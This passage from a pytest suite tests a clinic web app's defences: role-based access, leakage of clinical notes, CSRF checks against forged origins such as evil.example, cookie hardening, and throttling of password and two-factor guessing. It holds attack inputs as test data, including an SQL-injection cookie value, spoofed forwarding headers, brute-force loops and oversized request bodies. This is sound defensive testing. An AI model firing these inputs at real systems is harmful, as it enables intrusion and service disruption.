        "diary": diary_link(town),
        "hold": hold_link(town),
        "used": house.setup.split("?t=")[1],
        **{kind: token for kind, token in town.stands["here"].tokens.items() if kind != "over"},
    }
    garbage, expired, idle = house.visitor(), town.again(town.anna), town.again(town.anna)
    garbage.cookies["__Host-tautband"], garbage.csrf = "A" * 43, anna.csrf
    house.expire(expired)
    house.expire(idle, "seen", int((time.time() - 16 * 60) * 1000))
    live = [(person.name, person) for person in (town.owner, town.anna, town.bert, town.asta, town.clara, town.olga)]
    return [
        Actor("anonymous", house.visitor()),
        Actor("garbage cookie", garbage),
        Actor("expired", expired),
        Actor("idle too long", idle),
        Actor("disabled", town.dora.visitor),
        *(Actor(person.role + " " + name, person.visitor, person) for name, person in live),
        Actor("steward of a third practice", town.stew.visitor, town.stew),
    ]


def markers(town):
    """Every planted word with those who may ever see it."""
    people = list(town.people.values())
    for person in people:
        colleagues = {one.name for one in people if one.practice == person.practice and one.role != "client"}
        seen = colleagues if person.role != "client" else {town.head(person).name}
        yield person.name, seen | {person.name}
        if person.role != "client":
            yield person.mail, seen | {person.name}
    for case in town.cases.values():
        head = town.head(case).name
        own = {case.account.name} if case.account else set()
        broken = {case.broken_by.name} if case.broken_by else set()
        clinical = {head, case.therapist.name} | own | broken
        assistants = {one.name for one in people if one.practice == case.practice and one.role == "assistant"}
        for word in (case.name, case.mail, case.phone, case.id):
            yield word, clinical | assistants
        yield case.note, clinical
        yield case.diary, clinical
        yield "Glassreason" + case.name.split()[0], {head}
    for stand in town.stands.values():
        kept = {town.head(stand).name, stand.therapist.name}
        assistants = {one.name for one in people if one.practice == stand.practice and one.role == "assistant"}
        working = {one.name for one in people if one.practice == stand.practice and one.role != "client"}
        for word in (stand.client.split()[0], stand.mail, stand.waiter.split()[0], stand.waiter_mail):
            yield word, kept | assistants
        # Once tied to a record it is part of it.
        case = stand.case
        yield stand.form, kept | ({one.name for one in (case.account, case.broken_by) if one} if case else set())
        yield stand.told, kept
        yield stand.evidence, working | {town.head(stand).name, town.stew.name}
        yield stand.document.decode().split()[1], kept | {town.stew.name}
    for host in (town.owner, town.olga):
        yield f"Tkname{host.practice}qz", {host.name}
        yield f"tkmail{host.practice}qz", {host.name}
        # A printed note names the practice.
        treating = {one.name for one in people if one.practice == host.practice and one.role == "therapist"}
        yield {1: "Practnmone", 2: "Practnmtwo"}[host.practice], {host.name} | treating


def leaks(town, actor, answer, refused, thing):
    """Planted words in an answer that must not be there; a refusal holds none at all."""
    if not town.words:
        town.words.update(markers(town))
        town.pattern = re.compile("|".join(map(re.escape, town.words)))
    name = actor.person.name if actor.person else None
    return [
        word
        for word in set(town.pattern.findall(answer.text)) - set(thing.known)
        if refused or name not in town.words[word]
    ]


def state(town, thing):
    """Everything that a refused request could have changed, and what the owner reads of it."""
    counts = town.house.change(
        "SELECT (SELECT count(*) || ' ' || sum(version) FROM client),"
        " (SELECT count(*) || ' ' || sum(version) FROM account),"
        " (SELECT sum(version) FROM practice), (SELECT count(*) || ' ' || count(used) FROM ticket),"
        " (SELECT count(*) || ' ' || count(noted) FROM glass), (SELECT count(*) FROM entry),"
        " (SELECT count(*) FROM session),"
        " (SELECT count(*) || ' ' || sum(version) || ' ' || group_concat(name || status) FROM practitioner),"
        " (SELECT count(*) || ' ' || sum(version) FROM place), (SELECT count(*) || ' ' || sum(version) FROM service),"
        " (SELECT group_concat(status || ifnull(revoke_by, '')) FROM training), (SELECT count(*) FROM absence),"
        " (SELECT count(*) || ' ' || group_concat(hex(token)) FROM feed), (SELECT count(*) FROM busy_source),"
        " (SELECT group_concat(status || starts || version || ifnull(client, '')) FROM appointment),"
        " (SELECT group_concat(status || ifnull(reply, '') || hex(telling)) FROM experience),"
        " (SELECT group_concat(status) FROM waiting), (SELECT group_concat(status) FROM subscriber),"
        " (SELECT count(*) FROM newsletter), (SELECT count(*) || group_concat(state) FROM recording),"
        " (SELECT count(*) || sum(length(content)) FROM recording_part)"
    )
    read = None
    if thing.case:
        read = town.head(thing.case).visitor.api("GET", f"/api/clients/{thing.case.id}").body
    elif thing.person:
        page = town.head(thing.person).visitor.get(f"/team/{thing.person.id}").text
        read = re.findall(r'name="(?:version|name)"[^>]*value="([^"]*)"|<option value="(\w+)" selected', page)
        assert read
    return counts, read


def call(town, actor, route, rule, thing, allowed):
    method, path = route.split(" ")
    path = path.replace("{id}", thing.id)
    if "{" in path:
        case = thing.case
        path = path.replace("{visit}", case.visit or NOWHERE if case else NOWHERE)
        path = path.replace("{complaint}", case.complaint or NOWHERE if case else NOWHERE)
        path = path.replace("{entry}", case.finding or NOWHERE if case else NOWHERE)
        path = path.replace("{letter}", case.letter or NOWHERE if case else NOWHERE)
        path = path.replace("{recorded}", case.recorded or NOWHERE if case else NOWHERE)
        path = path.replace("{recording}", thing.arriving or (case.recording or NOWHERE if case else NOWHERE))
        path = path.replace("{file}", "0").replace("{part}", "0")
        path = path.replace("{hold}", str(uuid.uuid4())).replace("{token}", thing.id).replace("{training}", thing.id)
        if "{absence}" in path:
            path = path.replace("{absence}", thing.stand.absence(town.house) if thing.stand else NOWHERE)
    visitor = actor.visitor
    if method == "GET":
        if ROUTES[route] == "link" and "{token}" not in route:
            path += f"?t={thing.id}"
        return visitor.get(path, {} if path.startswith("/api/") else HTML, keep=False)
    fields = rule.fields(town, actor, thing, allowed)
    if path.startswith("/api/"):
        fields = dict(fields)
        more = {"Idempotency-Key": fields.pop("key", None), "If-Match": f'"{fields.pop("version", 1)}"'}
        return visitor.api(method, path, fields, more, keep=False)
    if route in MULTIPART:
        files = fields["files"]
        return visitor.multipart(path, {name: fields[name] for name in fields if name != "files"}, files, keep=False)
    if path == "/sign-out" and allowed:
        visitor = town.again(actor.person)
    return visitor.form(path, fields, keep=False)


def is_refusal(actor, answer, route):
    """As if there were nothing; those who are not signed in are asked to sign in."""
    if actor.person is not None or ROUTES[route] == "link":
        return answer.status == 404
    return answer.status == 401 or answer.status == 303 and answer.header("Location").startswith("/sign-in?next=")


@pytest.mark.parametrize("route", [route for route in ROUTES if route not in OPEN])
def test_only_who_may_gets_an_answer(town, actors, cells, route):
    assert route in RULES, f"{route} is new: say in RULES who may use it"
    rule, faults = RULES[route], []
    for actor in actors:
        for thing in rule.things(town, actor):
            cells["cells"] += 1
            allowed = rule.may(actor, thing)
            before = state(town, thing) if route in UNSAFE and not allowed else None
            answer = call(town, actor, route, rule, thing, allowed)
            where = f"{route}, {actor.name}, {thing.label}: {answer.status}"
            if allowed == "wrong":
                fine = answer.status == 422
            else:
                fine = answer.status in rule.answers if allowed else is_refusal(actor, answer, route)
            if not fine:
                faults.append(f"{where} instead of {rule.answers if allowed else 'a refusal'}")
            if found := leaks(town, actor, answer, not allowed, thing):
                faults.append(f"{where} shows {found}")
            if before is not None and before != (after := state(town, thing)):
                faults.append(f"{where} changed the object: {before} is {after}")
    assert not faults, "\n".join(faults)


@pytest.fixture(scope="module")
def samples(town, house):
    """An address for every open route, found by browsing."""
    visitor, stand = Visitor(house.port), town.stands["here"]
    found = {
        "/api/chart/{view}": "/api/chart/front",
        "/assets/{name}": "/assets/office.css",
        "/api/card/{kind}/{name}": "/api/card/muscle/soleus",
        "/api/figure/{kind}/{name}": "/api/figure/muscle/soleus",
        "/api/card/{kind}/{group}/{name}": "/api/card/movement/knee/flexion",
        "/api/change": "/api/change?measure=pain&before=6&after=3",
        "/therapists/{id}": f"/therapists/{stand.practitioner}",
        "/book/{service}": f"/book/{stand.service}",
        "/book/{service}/wait": f"/book/{stand.service}/wait",
        "/newsletter/{practice}": f"/newsletter/{stand.practice_id}",
        "/api/places": "/api/places?q=Graz",
        "/api/figure/zone": "/api/figure/zone?zone=" + CASE["drawing"][0]["zone"].replace("/", "%2f"),
    }
    for route in OPEN:
        path = route.split(" ")[1]
        if "{" in path and path not in found:
            top = path.split("/")[1]
            pattern = re.sub(r"\{\w+\}", r'[^/"?#]+', path)
            links = re.findall(rf'href="({pattern})"', visitor.get(f"/{top}").body.decode())
            found[path] = links[0] if links else path.replace("{kind}/", "").replace("{name}", "soleus")
    found["/learn/charts/{file}"] = "/learn/charts/infraspinatus.svg"
    return found


@pytest.mark.parametrize("route", OPEN)
def test_what_is_open_is_the_same_for_everybody(town, actors, cells, samples, route):
    method, path = route.split(" ")
    path, expected = samples.get(path, path), None
    for actor in actors:
        cells["cells"] += 1
        if method == "GET":
            answer = actor.visitor.get(path, keep=False)
        elif route in FORMS:
            fields, expected = FORMS[route]
            answer = actor.visitor.form(path, fields, csrf=False, keep=False)
        else:
            answer = actor.visitor.api(method, path, CASE, keep=False)
        fine = (expected,) if expected else (200, 301, 303) if route == "GET /sign-in" else (200, 301)
        # Without a public address there is no list for search engines.
        fine += (404,) if route == "GET /sitemap.xml" else ()
        # Two old addresses have no names any more that could be found.
        fine += (404,) if re.match(r"GET /(movements|nerves)/\{name\}", route) else ()
        assert answer.status in fine, f"{route} as {actor.name}: {answer.status}"
        # Who can be booked says in which practice.
        thing = Thing("none", "", known=("Practnmone",) if "{id}" in route or "{practice}" in route else ())
        assert not leaks(town, actor, answer, actor.person is None, thing)


def test_every_rule_belongs_to_a_route():
    assert set(RULES) == {route for route in ROUTES if route not in OPEN}


@pytest.mark.parametrize("method", ["HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE"])
def test_other_methods_reach_nothing(town, method):
    case = town.cases["mine"]
    for path in (f"/clients/{case.id}", "/api/clients", f"/team/{town.anna.id}", "/audit"):
        before = state(town, Thing("case", case.id, case=case))
        answer = town.owner.visitor.send(method, path)
        assert answer.status in (404, 405) and case.name not in answer.text
        assert state(town, Thing("case", case.id, case=case)) == before


def test_a_list_shows_nobody_a_client_too_many(town):
    for person, keys in [
        (town.owner, "mine yours glass"),
        (town.anna, "mine glass"),
        (town.bert, "yours glass"),
        (town.asta, "mine yours glass"),
        (town.olga, "theirs"),
        (town.xeno, "theirs"),
    ]:
        for query in ("", "?q=clnm", "?q=family"):
            listed = person.visitor.api("GET", f"/api/clients{query}").json["clients"]
            names = {client["name"] for client in listed if client["name"].startswith("Clnm")}
            assert names == {town.cases[key].name for key in keys.split()}
            assert all("note" not in client for client in listed)


def test_an_assistant_never_reads_nor_writes_clinical_text(town):
    case, asta = town.cases["mine"], town.asta.visitor
    for path in (f"/api/clients/{case.id}", f"/clients/{case.id}", f"/clients/{case.id}/edit"):
        text = asta.get(path).text
        assert case.name in text and case.note not in text and case.diary not in text
    tag = asta.api("GET", f"/api/clients/{case.id}").header("ETag")
    answer = asta.api("PUT", f"/api/clients/{case.id}", {"note": "Overwritten"}, {"If-Match": tag})
    assert answer.status == 200 and "note" not in answer.json
    assert town.anna.visitor.api("GET", f"/api/clients/{case.id}").json["note"] == case.note


def test_colleagues_see_neither_why_a_training_was_refused_nor_a_link_to_its_document(town):
    stand = town.stands["here"]
    town.house.change(
        "UPDATE training SET status = 'refused', checked_by = (SELECT account FROM steward LIMIT 1), checked_name = 'X',"
        " checked_at = 1, check_note = 'Trnoteqz' WHERE id = ?", stand.waiting_training,
    )
    document = f"/training/documents/{stand.waiting_training}"
    for person, reads in ((town.anna, True), (town.owner, True), (town.bert, False), (town.asta, False)):
        page = person.visitor.get(f"/training/{stand.practitioner}")
        assert page.status == 200 and stand.evidence in page.text and "not accepted" in page.text
        assert ("Trnoteqz" in page.text) == (document in page.text) == reads, person
    waiting_trainings(town, None)


def test_an_assistant_writes_no_clinical_text_with_a_new_client(town):
    fields = {"name": "Noted Newcomer", "therapist": town.anna.id, "note": "Assistantwrote"}
    answer = town.asta.visitor.api("POST", "/api/clients", fields, {"Idempotency-Key": str(uuid.uuid4())})
    written = (
        town.anna.visitor.api("GET", f"/api/clients/{answer.json['id']}").json["note"] if answer.status == 201 else ""
    )
    assert "note" not in answer.json and written == ""


def test_a_repeated_creation_shows_an_assistant_no_note(town):
    key, fields = {"Idempotency-Key": str(uuid.uuid4())}, {"name": "Repeated Newcomer", "therapist": town.anna.id}
    made = town.asta.visitor.api("POST", "/api/clients", fields, key)
    noted = town.anna.visitor.api("PUT", f"/api/clients/{made.json['id']}", {"note": "Laternote"}, {"If-Match": '"1"'})
    assert noted.status == 200
    again = town.asta.visitor.api("POST", "/api/clients", fields, key)
    assert "Laternote" not in again.text


def test_fields_that_are_not_for_the_wire_are_passed_over(town):
    case = town.cases["theirs"]
    fields = {"id": case.id, "practice": "x", "version": 99, "created": 0, "role": "owner", "name": "Stranger Fields"}
    answer = town.anna.visitor.api("POST", "/api/clients", fields, {"Idempotency-Key": str(uuid.uuid4())})
    assert answer.status == 201 and answer.json["id"] != case.id and answer.json["version"] == 1
    assert answer.json["therapist"] == town.anna.id


def test_a_member_makes_nobody_an_owner(town):
    page = town.anna.visitor.get("/account")
    fields = {"name": town.anna.name, "role": "owner", "status": "active", "version": "1"}
    assert town.anna.visitor.form(f"/team/{town.anna.id}", fields).status == 404
    answer = town.owner.visitor.form("/team/invite", {"name": "X Y", "mail": "xy@new.example", "role": "client"})
    assert answer.status == 422 and page.status == 200
    fields = {"name": town.clara.name, "role": "owner", "status": "active"}
    fields["version"] = town.owner.visitor.get(f"/team/{town.clara.id}").hidden("version")
    assert town.owner.visitor.form(f"/team/{town.clara.id}", fields).status == 422


def test_nobody_hands_a_client_to_a_stranger(town):
    case, anna = town.cases["mine"], town.anna.visitor
    for stranger in (town.xeno.id, town.asta.id, town.clara.id, town.dora.id, NOWHERE):
        tag = anna.api("GET", f"/api/clients/{case.id}").header("ETag")
        answer = anna.api("PUT", f"/api/clients/{case.id}", {"therapist": stranger}, {"If-Match": tag})
        assert answer.status == 422 and answer.json["error"]["field"] == "therapist"
        fields = {"version": tag.strip('"'), "name": case.name, "therapist": stranger}
        assert anna.form(f"/clients/{case.id}", fields).status == 422
    assert anna.api("GET", f"/api/clients/{case.id}").json["therapist"] == town.anna.id
    tag = town.asta.visitor.api("GET", f"/api/clients/{case.id}").header("ETag")
    answer = town.asta.visitor.api("PUT", f"/api/clients/{case.id}", {"therapist": town.bert.id}, {"If-Match": tag})
    assert answer.status in (404, 422), "an assistant does not say who treats"


def test_of_two_owners_who_remove_each_other_one_stays(town):
    pia, quin = (Person("owner", 3, f"{name} Owner", f"{name}@third.example") for name in ("pia", "quin"))
    link = town.house.run("link", "--another-practice").strip()
    town.house.open_practice("/setup" + link.split("/setup")[1], "Third", pia)
    town.house.invite(pia, quin)

    def dismiss(one, other):
        fields = {"name": other.name, "role": "owner", "status": "disabled", "version": "1"}
        return one.visitor.form(f"/team/{other.id}", fields).status

    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        list(pool.map(dismiss, (pia, quin), (quin, pia)))
    signed_in = [one.visitor.get("/practice").status for one in (pia, quin)]
    assert sorted(signed_in) == [200, 303]


def test_a_practice_keeps_an_owner(town):
    for changes in ({"status": "disabled"}, {"role": "therapist"}):
        fields = {"name": town.owner.name, "role": "owner", "status": "active"} | changes
        fields["version"] = town.owner.visitor.get(f"/team/{town.owner.id}").hidden("version")
        assert town.owner.visitor.form(f"/team/{town.owner.id}", fields).status == 422


def test_broken_glass_opens_for_reading_and_closes_by_itself(town):
    case = Case(1, town.anna, "Shortglass Person", "short@people.example", "+49 1", "Shortnote", "Shortdiary")
    town.house.take(case)
    bert = town.bert.visitor
    assert bert.get(f"/clients/{case.id}").status == 404
    assert bert.form("/clients/glass", {"client": case.id, "reason": "too short"}).status == 422
    assert bert.get(f"/clients/{case.id}").status == 404
    town.break_glass(town.bert, case, town.owner)
    assert case.note in bert.get(f"/clients/{case.id}").text
    assert "Shortglass called in" in town.owner.visitor.get("/team").text
    assert bert.api("PUT", f"/api/clients/{case.id}", {"note": "x"}, {"If-Match": '"1"'}).status == 404
    town.house.change("UPDATE glass SET expires = 0 WHERE client = ?", case.id)
    assert bert.get(f"/clients/{case.id}").status == 404
    assert case.name not in bert.get("/clients").text


# 2. Other sites


def addressed(town, route):
    """An unsafe route with an object of the owner's."""
    method, path = route.split(" ")
    number = town.anna.id if path.startswith("/team/") else town.cases["mine"].id
    case = town.cases["mine"]
    path = path.replace("{complaint}", case.complaint).replace("{visit}", case.visit).replace("{hold}", number)
    for name in ("absence", "training", "token", "service", "practice"):
        path = path.replace("{" + name + "}", NOWHERE)
    return method, path.replace("{id}", number)


@pytest.mark.parametrize("route", UNSAFE)
def test_requests_that_another_site_began_are_refused(town, route):
    method, path = addressed(town, route)
    owner = town.owner.visitor
    for headers in (
        {"Origin": "https://evil.example"},
        {"Origin": "null"},
        {"Origin": ""},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Origin": f"http://127.0.0.1:{town.house.port + 1}"},
        {"Origin": f"http://127.0.0.1:{town.house.port}.evil.example"},
        {"Origin": owner.origin + "@evil.example"},
        {"Sec-Fetch-Site": "cross-site", "Origin": owner.origin},
        {"Sec-Fetch-Site": "Same-Origin x"},
        {"Origin": None},
    ):
        before = state(town, Thing("case", "", case=town.cases["mine"]))
        answer = (
            owner.form(path, {"name": "Hacked"}, headers=headers)
            if method == "POST"
            else owner.api(method, path, {"name": "Hacked"}, {"If-Match": '"1"', **headers})
        )
        assert answer.status == 403 and not answer.cookies, f"{route} {headers}: {answer.status}"
        assert state(town, Thing("case", "", case=town.cases["mine"])) == before


@pytest.mark.parametrize(
    "route",
    [one for one in UNSAFE if one.startswith("POST") and "/api/" not in one and (ROUTES[one] not in ("open", "link"))],
)
def test_forms_need_the_token_of_the_session(town, route):
    _, path = addressed(town, route)
    owner, before = town.owner.visitor, state(town, Thing("case", "", case=town.cases["mine"]))
    send = owner.multipart if route in MULTIPART else owner.form
    for token in (None, "", town.anna.visitor.csrf, owner.csrf[:-1], owner.csrf + "0", owner.csrf.upper(), "0" * 64):
        answer = send(path, {} if token is None else {"csrf": token}, csrf=False, keep=False)
        assert answer.status == 403, f"{route} with token {token!r}: {answer.status}"
    answer = owner.send("POST", path + f"?csrf={owner.csrf}", b"{}", {"Content-Type": "text/plain"})
    assert answer.status == 415
    assert owner.get("/account").status == 200
    assert state(town, Thing("case", "", case=town.cases["mine"])) == before


# 3. Sessions


def test_cookies_have_every_protection(town):
    visitor = town.house.visitor()
    answer = visitor.form("/sign-in", {"mail": town.anna.mail, "password": PASSWORD}, csrf=False)
    lines = [line for line in answer.all("Set-Cookie") if "Max-Age=0" not in line]
    assert {line.split("=")[0] for line in lines} == {"__Host-tautband", "__Host-tautband-device"}
    for line in lines:
        parts = {part.strip().lower() for part in line.split(";")}
        assert {"path=/", "httponly", "secure"} <= parts and not any(part.startswith("domain") for part in parts)
        assert "samesite=strict" in parts or line.startswith("__Host-tautband-device=") and "samesite=lax" in parts
    assert len(base64.urlsafe_b64decode(dict(answer.cookies)["__Host-tautband"] + "=")) >= 16


def test_every_sign_in_makes_a_new_token_whatever_was_sent(town):
    visitor, seen = town.anna.visitor.copy(), {town.anna.visitor.cookies["__Host-tautband"]}
    for planted in ("A" * 43, town.anna.visitor.cookies["__Host-tautband"], ""):
        visitor.cookies["__Host-tautband"] = planted
        assert visitor.form("/sign-in", {"mail": town.anna.mail, "password": PASSWORD}, csrf=False).status == 303
        seen.add(visitor.cookies["__Host-tautband"])
    assert len(seen) == 4
    planted = town.house.visitor()
    planted.cookies["__Host-tautband"] = "A" * 43
    assert planted.get("/clients").status == 303


def test_whoever_is_signed_in_is_led_to_a_page_of_their_own(town):
    for person in (town.owner, town.clara):
        for answer in (
            person.visitor.get("/sign-in"),
            person.visitor.copy().form("/sign-in", {"mail": person.mail, "password": PASSWORD}, csrf=False),
        ):
            assert answer.status == 303 and person.visitor.get(answer.header("Location")).status == 200


def test_signing_out_ends_the_session_on_the_server(town):
    visitor = town.again(town.anna)
    stolen = visitor.copy()
    answer = visitor.form("/sign-out")
    assert answer.status == 303 and "__Host-tautband" not in visitor.cookies
    assert stolen.get("/clients").status == 303 and stolen.get("/api/clients", {}).status == 401
    assert town.anna.visitor.get("/clients").status == 200


def test_disabling_ends_every_session_within_one_request_and_stays(town):
    fay = Person("therapist", 1, "Fay Shortstay", "fay@staff.example")
    town.house.invite(town.owner, fay)
    others = [town.again(fay) for _ in range(2)]
    assert all(one.get("/clients").status == 200 for one in [fay.visitor, *others])
    town.dismiss(fay)
    assert all(one.get("/clients").status == 303 for one in [fay.visitor, *others])
    assert fay.visitor.copy().form("/sign-in", {"mail": fay.mail, "password": PASSWORD}, csrf=False).status == 422
    fields = {"name": fay.name, "role": "assistant", "status": "active"}
    fields["version"] = town.owner.visitor.get(f"/team/{fay.id}").hidden("version")
    assert town.owner.visitor.form(f"/team/{fay.id}", fields).status == 303
    assert fay.visitor.get("/clients").status == 303


def test_a_changed_password_ends_the_other_sessions(town):
    gil = Person("therapist", 1, "Gil Changes", "gil@staff.example")
    town.house.invite(town.owner, gil)
    other, new = town.again(gil), "nine grey herons wade"
    fields = {"current": PASSWORD, "password": new}
    assert gil.visitor.form("/account/password", fields).status == 200
    assert gil.visitor.get("/account").status == 200 and other.get("/account").status == 303
    assert other.form("/sign-in", {"mail": gil.mail, "password": PASSWORD}, csrf=False).status == 422
    # Links for a new password that are on their way die with the old password.
    first, second = (town.owner.visitor.form(f"/team/{gil.id}/password-link").token for _ in range(2))
    assert Visitor(town.house.port).form("/password", {"t": second, "password": new + "s"}, csrf=False).status == 303
    assert gil.visitor.get("/account").status == 303
    assert Visitor(town.house.port).get(f"/password?t={first}").status == 404


@pytest.mark.parametrize(
    "cookie",
    [
        "",
        "x",
        "A" * 42,
        "A" * 44,
        "A" * 43 + "=",
        "A" * 60_000,
        "' OR 1=1--",
        "%00",
        "\x01",
        "..",
        "v1.a.b",
        "é" * 43,
        ";",
        "A" * 43 + "; __Host-tautband=" + "B" * 43,
        '"' + "A" * 43 + '"',
    ],
)
def test_odd_cookies_are_nobodys(town, cookie):
    visitor = town.house.visitor()
    headers = {"Cookie": f"__Host-tautband={cookie}".encode(), **HTML}
    for path in ("/clients", "/account"):
        try:
            assert visitor.get(path, headers).status in (303, 400, 431)
        except (http.client.HTTPException, ConnectionError):
            pass  # Closed without a word is as good.
    assert town.house.is_alive()


def test_a_second_factor_is_asked_for_and_no_code_works_twice(town):
    hal = Person("therapist", 1, "Hal Factor", "hal@staff.example")
    town.house.invite(town.owner, hal)
    other, visitor = town.again(hal), hal.visitor
    secret = visitor.get("/account/second-factor").hidden("secret")
    town.house.secrets.add(secret)
    code = one_time_code(secret)
    page = visitor.form("/account/second-factor", {"secret": secret, "code": code, "current": PASSWORD})
    recovery = re.findall(r"<li><code>([^<]+)</code>", page.body.decode())
    town.house.secrets |= set(recovery)
    assert page.status == 200 and len(recovery) == 10 and other.get("/account").status == 303
    new = town.house.visitor()
    answer = new.form("/sign-in", {"mail": hal.mail, "password": PASSWORD}, csrf=False)
    assert answer.status == 200 and "__Host-tautband" not in new.cookies
    assert new.get("/clients").status == 303
    # The step's cookie is no session, no device, no link.
    step = new.cookies["__Host-tautband-step"]
    for name in ("__Host-tautband", "__Host-tautband-device"):
        assert new.get("/clients", {"Cookie": f"{name}={step}", **HTML}).status == 303
    assert new.form("/sign-in/code", {"code": code}, csrf=False).status == 422
    assert new.form("/sign-in/code", {"code": one_time_code(secret, time.time() + 30)}, csrf=False).status == 303
    assert new.get("/clients").status == 200
    with concurrent.futures.ThreadPoolExecutor(8) as pool:
        tries = [new.copy() for _ in range(8)]
        for one in tries:
            one.cookies = {"__Host-tautband-step": step}
        answers = list(pool.map(lambda one: one.form("/sign-in/code", {"recovery": recovery[0]}, csrf=False), tries))
    assert sorted(answer.status for answer in answers).count(303) == 1


def test_a_second_factor_is_not_replaced_without_proof(town):
    """A stolen session alone must not swap the factor that protects the account (ASVS 7.5.1)."""
    ida = Person("therapist", 1, "Ida Factor", "ida@staff.example")
    town.house.invite(town.owner, ida)
    visitor = ida.visitor
    first, second = (visitor.get("/account/second-factor").hidden("secret") for _ in range(2))
    town.house.secrets |= {first, second}
    assert (
        visitor.form(
            "/account/second-factor", {"secret": first, "code": one_time_code(first), "current": PASSWORD}
        ).status
        == 200
    )
    replaced = visitor.form(
        "/account/second-factor", {"secret": second, "code": one_time_code(second), "current": PASSWORD}
    )
    assert replaced.status in (403, 404, 409, 422)


def test_guessed_codes_stop(town):
    jon = Person("therapist", 1, "Jon Factor", "jon@staff.example")
    town.house.invite(town.owner, jon)
    secret = jon.visitor.get("/account/second-factor").hidden("secret")
    town.house.secrets.add(secret)
    jon.visitor.form("/account/second-factor", {"secret": secret, "code": one_time_code(secret), "current": PASSWORD})
    thief = town.house.visitor()
    thief.form("/sign-in", {"mail": jon.mail, "password": PASSWORD}, csrf=False)
    answers = [thief.form("/sign-in/code", {"code": f"{number:06}"}, csrf=False) for number in range(12)]
    assert answers[-1].status == 429 and int(answers[-1].header("Retry-After")) > 0
    assert sum(answer.status == 422 for answer in answers) <= 10


# 4. Who has an account


def test_signing_in_does_not_tell_who_has_an_account(town):
    times, bodies = {"known": [], "unknown": []}, {}
    mails = {"known": town.xeno.mail, "unknown": town.xeno.mail.replace("xeno", "nemo")}
    for number in range(20):
        for kind, mail in mails.items():
            visitor = town.house.visitor()
            visitor.get("/health")
            begun = time.perf_counter()
            answer = visitor.form("/sign-in", {"mail": mail, "password": f"wrong password {number}"}, csrf=False)
            times[kind].append(time.perf_counter() - begun)
            bodies[kind] = (
                answer.status,
                answer.body.replace(mail.encode(), b"MAIL"),
                [header for header in answer.headers if header[0] not in ("Date", "Content-Length")],
            )
    assert bodies["known"] == bodies["unknown"] and bodies["known"][0] == 422
    known, unknown = (statistics.median(times[kind]) for kind in ("known", "unknown"))
    assert abs(known - unknown) < 0.3 * max(known, unknown), (known, unknown)


def test_a_disabled_account_answers_like_a_wrong_password(town):
    answers = [
        town.house.visitor().form("/sign-in", {"mail": town.dora.mail, "password": password}, csrf=False)
        for password in (PASSWORD, "wrong wrong wrong")
    ]
    assert answers[0].status == answers[1].status == 422 and answers[0].body == answers[1].body


# 5. Limits


def test_guessing_stops_and_the_known_device_still_gets_in(town):
    kim = Person("therapist", 1, "Kim Guessed", "kim@staff.example")
    town.house.invite(town.owner, kim)
    thieves, statuses = [town.house.visitor() for _ in range(4)], []
    for number in range(34):
        answer = thieves[number % 4].form("/sign-in", {"mail": kim.mail, "password": f"guess {number}"}, csrf=False)
        statuses.append(answer.status)
    assert set(statuses[:29]) == {422} and statuses[-1] == 429 and int(answer.header("Retry-After")) > 0
    right = thieves[0].form("/sign-in", {"mail": kim.mail, "password": PASSWORD}, csrf=False)
    assert right.status == 429
    assert town.again(kim).get("/clients").status == 200
    # A device that someone else's account knows helps nobody.
    thief = town.bert.visitor.copy()
    assert thief.form("/sign-in", {"mail": kim.mail, "password": PASSWORD}, csrf=False).status == 429
    # A known device is no way to guess for ever either.
    found = town.house.visitor()
    found.cookies["__Host-tautband-device"] = kim.visitor.cookies["__Host-tautband-device"]
    tries = [
        found.form("/sign-in", {"mail": kim.mail, "password": f"guess {number}"}, csrf=False).status
        for number in range(12)
    ]
    assert tries[-1] == 429


def test_one_address_cannot_guess_at_many_accounts(town):
    thief = town.house.visitor()
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        answers = list(
            pool.map(
                lambda number: thief.copy().form(
                    "/sign-in", {"mail": f"guess{number}@staff.example", "password": "x"}, csrf=False
                ),
                range(33),
            )
        )
    assert answers[0].status == 422 and answers[-1].status == 429 and int(answers[-1].header("Retry-After")) > 60
    forwarded = thief.form(
        "/sign-in",
        {"mail": "other@staff.example", "password": "x"},
        csrf=False,
        headers={"X-Forwarded-For": "203.0.113.9", "Forwarded": "for=203.0.113.9"},
    )
    assert forwarded.status == 429, "a header that anybody can write must not help"


def test_guessing_the_own_password_stops(town):
    lea = Person("therapist", 1, "Lea Guessed", "lea@staff.example")
    town.house.invite(town.owner, lea)
    fields = {"current": "wrong", "password": PASSWORD + " 2"}
    statuses = [lea.visitor.form("/account/password", fields).status for _ in range(12)]
    assert statuses[0] == 422 and statuses[-1] == 429


def exchange(house, data, seconds=4.0, once=False):
    """What the server says to raw bytes until it closes or the time is over, and whether it closed."""
    with socket.create_connection(("127.0.0.1", house.port), timeout=seconds) as line:
        said = b""
        try:
            line.sendall(data)
        except (ConnectionError, TimeoutError):
            pass
        try:
            while piece := line.recv(65536):
                said += piece
                if once:
                    break
        except ConnectionError:
            pass
        except TimeoutError:
            return said, False
        return said, True


def head(line, *more):
    return "\r\n".join([line, "Host: 127.0.0.1", *more, "", ""]).encode()


def test_large_bodies_are_refused(town):
    anna = town.anna.visitor
    for path, more in (("/api/clients", {"Idempotency-Key": "large-body-1"}), ("/clients", {}), ("/sign-in", {})):
        kind = "application/json" if more else "application/x-www-form-urlencoded"
        lines = [
            "Content-Type: " + kind,
            f"Cookie: __Host-tautband={anna.cookies['__Host-tautband']}",
            "Origin: http://127.0.0.1",
            *(f"{key}: {value}" for key, value in more.items()),
        ]
        plain = head(f"POST {path} HTTP/1.1", *lines, "Content-Length: 10000000") + b"a" * 10**7
        chunks = b"".join(b"%x\r\n%s\r\n" % (100_000, b"a" * 100_000) for _ in range(100)) + b"0\r\n\r\n"
        chunked = head(f"POST {path} HTTP/1.1", *lines, "Transfer-Encoding: chunked") + chunks
        for data in (plain, chunked):
            said, _ = exchange(town.house, data, once=True)
            assert said.startswith(b"HTTP/1.1 413"), said[:200]
    assert town.house.is_alive()


@pytest.fixture(scope="module")
def strict():
    """A server behind https with tight limits."""
    house = House(
        {
            "TAUTBAND_REQUESTS_PER_MINUTE": "60",
            "TAUTBAND_REQUEST_SECONDS": "1",
            "TAUTBAND_PUBLIC_URL": "https://clinic.example",
            "TAUTBAND_LARGEST_REQUEST": "2000",
        }
    )
    try:
        yield house
    finally:
        house.stop()


def test_a_body_that_drips_is_given_up(strict):
